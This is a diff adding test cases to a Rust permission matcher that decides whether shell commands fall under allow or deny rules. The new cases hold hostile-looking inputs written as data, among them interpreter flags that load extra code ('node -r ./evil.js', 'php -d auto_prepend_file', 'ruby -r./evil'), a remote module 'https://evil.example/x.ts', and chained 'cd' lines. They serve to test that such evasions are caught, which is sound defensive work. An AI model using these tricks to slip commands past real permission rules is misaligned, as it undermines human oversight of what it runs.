@@ -217,6 +217,25 @@ fn commands() {
         ("run deno test *", "deno test https://evil.example/x.ts", false),
         ("run node *", "node --eval x", true),
         ("run npx *", "npx prettier --config x", true),
+        // Who allows an interpreter with a word of its own does not allow all of it.
+        ("run node --check *", "node --check ok.js", true),
+        ("run node --check *", "node --check -r ./evil.js ok.js", false),
+        ("run node --test *", "node --test --test-reporter=./x --test-reporter-destination=y", false),
+        ("run node --test *", "node --test --test-reporter=./x", false),
+        ("run node --test *", "node --test --test-reporter=spec", true),
+        ("run node --test *", "node --test --test-global-setup=x", false),
+        ("run node --test *", "node --test -e x", false),
+        ("run node --test *", "node --test --experimental-config-file=x", false),
+        ("run php -l *", "php -l x.php", true),
+        ("run php -l *", "php -l -d auto_prepend_file=x y.php", false),
+        ("run php -l *", "php -l -z x.so y.php", false),
+        ("run php8.3 -l *", "php8.3 -l -z x.so y.php", false),
+        ("run ruby -c *", "ruby -c x.rb", true),
+        ("run ruby -c *", "ruby -c -r./evil x.rb", false),
+        ("run ninja -C build *", "ninja -C build test", true),
+        // In another folder only `run *` counts.
+        ("run cd *", "cd /tmp", true),
+        ("run *", "cd /tmp; npm test", true),
         ("run env *", "env id", false),
         ("run xargs *", "xargs id", false),
         ("run ssh x *", "ssh x id", false),
@@ -231,6 +250,11 @@ fn commands() {
     let two = rules(&["run a *", "run b"], &[], &[]);
     assert_eq!(decide(&two, &run("a x | b")), Allow);
     assert_eq!(decide(&two, &run("a x | b | c")), Ask);
+    let moving = rules(&["run cd *", "run npm test *", "run ls"], &[], &[]);
+    for line in ["cd /tmp; npm test", "cd x && npm test", "ls && cd x && ls", "cd x\nnpm test"] {
+        assert_eq!(decide(&moving, &run(line)), Ask, "{line}");
+    }
+    assert_eq!(decide(&moving, &run("npm test && cd x")), Allow);
     for (rule, line, expect) in [
         ("run git push", "git push", true),
         ("run git push", "git push -f origin", true),
@@ -247,6 +271,8 @@ fn commands() {
         ("run git push", "sudo sh -c \"cd x; bash -c 'git push'\"", true),
         ("run git push", "if x; then git push; fi", true),
         ("run git push", "echo git push", false),
+        ("run git push", "python3 -c \"run(['git', 'push'])\"", true),
+        ("run touch *", "/lib64/ld-linux-x86-64.so.2 /usr/bin/touch P", true),
         ("run rm *", "find . -exec rm {} +", true),
         ("run sudo *", "sudo -u x id", true),
         ("run sudo *", "cd x && sudo id", true),
@@ -342,6 +368,8 @@ fn a_rule_that_holds_back_is_not_passed_by_other_words_for_the_same() {
         ("run curl *", "apt install curl"),
         ("run curl *", "grep -- curl x"),
         ("run curl *", "git commit -m 'use curl here'"),
+        ("run curl *", "python3 -c 'print(1)'"),
+        ("run curl *", "python3 -c 'print(\"curly\")'"),
         ("run kubectl -n prod delete *", "kubectl -n test delete x"),
     ] {
         assert!(!denies(rule, &run(line)), "{rule:?} {line:?}");
